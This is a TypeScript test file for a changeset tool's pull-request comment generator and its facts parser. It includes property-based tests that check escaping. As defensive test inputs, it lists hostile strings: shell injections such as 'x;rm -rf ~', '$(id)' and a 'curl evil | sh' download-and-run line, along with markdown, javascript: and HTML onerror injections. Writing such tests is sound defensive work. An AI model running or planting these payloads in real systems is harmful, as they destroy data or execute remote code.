import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { commentMark, prComment, type NewFilePlace } from "../../src/report/pr-comment.ts";
import { readPrFacts, type PrFacts } from "../../src/report/pr-facts.ts";

const facts: PrFacts = { schema: 1, bumps: [], missing: [], added: 0, versioning: false };
const fileName = "brave-otters-swim";
const place: NewFilePlace = {
  kind: "github",
  repositoryUrl: "https://github.example/o/r",
  branch: "a/branch",
};
const nowhere = { place: null, fileName };

describe("the comment of a pull request", () => {
  test("starts with the mark by which it is found again", () => {
    expect(prComment(facts, nowhere).split("\n")[0]).toBe(commentMark);
  });

  test("shows each package with its bump and versions, and notifies nobody by a scope's @", () => {
    const bump = { package: "@s/core", from: "1.0.0", to: "1.1.0", bump: "minor" as const };
    const text = prComment({ ...facts, bumps: [bump], added: 1 }, nowhere);
    expect(text).toContain("| `@\u200Bs/core` | minor | `1.0.0` → `1.1.0` |");
  });

  test("names what is missing, the command that mends it, and a link that opens the file ready to be saved", () => {
    const text = prComment({ ...facts, missing: ["core", "@s/ui"] }, { place, fileName });
    expect(text).toContain("named by no changeset: `core`, `@\u200Bs/ui`");
    expect(text).toContain('slipway change --package core --package @s/ui --bump patch --message "…"');
    const [, link = ""] = /\[Write one here\]\(([^)]+)\)/.exec(text) ?? [];
    const url = new URL(link);
    expect(url.pathname).toBe("/o/r/new/a/branch");
    expect(url.searchParams.get("filename")).toBe(".changeset/brave-otters-swim.md");
    expect(url.searchParams.get("value")).toBe(
      '---\n"core": patch\n"@s/ui": patch\n---\n\nWhat changed, in words for users\n',
    );
  });

  test("opens GitLab's editor by GitLab's names", () => {
    const there = { kind: "gitlab", repositoryUrl: "https://gitlab.example/g/s/p", branch: "topic" } as const;
    const text = prComment({ ...facts, missing: ["core"] }, { place: there, fileName });
    expect(text).toContain(
      "https://gitlab.example/g/s/p/-/new/topic?file_name=.changeset%2Fbrave-otters-swim.md&content=",
    );
  });

  test("lets no name break out of its code or its table row", () => {
    const text = prComment({ ...facts, missing: ["a`|\n<script>"] }, nowhere);
    expect(text).toContain("`a<script>`");
    expect(text.split("\n").filter((line) => line.startsWith("```"))).toHaveLength(2);
  });

  test("quotes what a shell would take for more than a name", () => {
    const text = prComment({ ...facts, missing: ["x;rm -rf ~", "it's", "$(id)"] }, nowhere);
    expect(text).toContain(String.raw`--package 'x;rm -rf ~' --package 'it'\''s' --package '$(id)' --bump`);
  });
});

/** What a stranger would try, and all else. */
const hostile = fc.oneof(
  fc.constantFrom(
    "](https://evil.example) [x",
    "`](javascript:alert(1))",
    "a)\n\n# Approved\n\n[b](c",
    "| x | y |\n| --- |",
    "<!-- slipway: changesets -->",
    "--> <img src=x onerror=alert(1)>",
    "@everyone",
    "```\n@org/team\n```",
    "\u202Egnp.exe",
    "'; curl evil | sh; '",
    "(((",
    ")))",
  ),
  fc.string({ unit: "binary", maxLength: 60 }),
);

test("nothing that comes from a branch leaves its place in the comment", () => {
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), hostile, (names, branch) => {
      const bumps = names.map((name) => ({ package: name, bump: "patch" as const, from: name, to: name }));
      const safe = {
        ...facts,
        missing: ["core"],
        bumps: bumps.map((each) => ({ ...each, package: "a", from: "1", to: "2" })),
      };
      const text = prComment({ ...facts, missing: names, bumps }, { place: { ...place, branch }, fileName });
      const shape = (markdown: string): string[] =>
        markdown.split("\n").map((line) => line.replace(/`[^`\n]*`/g, "`x`"));
      const command = /^slipway change .*$/;
      const link = /^\[Write one here\]\(https:\/\/github\.example\/o\/r\/new\/[\w%./~?=&-]*\), or run$/;
      const wanted = shape(prComment(safe, { place, fileName }));
      const got = shape(text);
      expect(got).toHaveLength(wanted.length);
      got.forEach((line, at) => {
        const other = wanted[at] ?? "";
        if (other.startsWith("[Write")) expect(line).toMatch(link);
        else if (other.startsWith("slipway change")) expect(line).toMatch(command);
        else expect(line.replaceAll(/(?:, `x`)+/g, "")).toBe(other);
      });
      expect(text.replaceAll(/`[^`\n]*`/g, "").replaceAll(/^slipway change .*$/gm, "")).not.toMatch(
        /@|[\p{Cf}]/u,
      );
    }),
  );
});

test.each([
  "",
  "[]",
  '{"schema":2}',
  JSON.stringify({ ...facts, missing: [7] }),
  JSON.stringify({ ...facts, missing: ["x".repeat(300)] }),
  JSON.stringify({ ...facts, bumps: [{ package: "a", bump: "](x)", from: "1", to: "2" }] }),
  JSON.stringify({ ...facts, added: "1" }),
  `${JSON.stringify(facts)}${" ".repeat(1_000_000)}`,
])("facts that a stranger made up are refused (%#)", (text) => {
  expect(() => readPrFacts(text, "facts.json")).toThrow("facts.json does not hold");
});
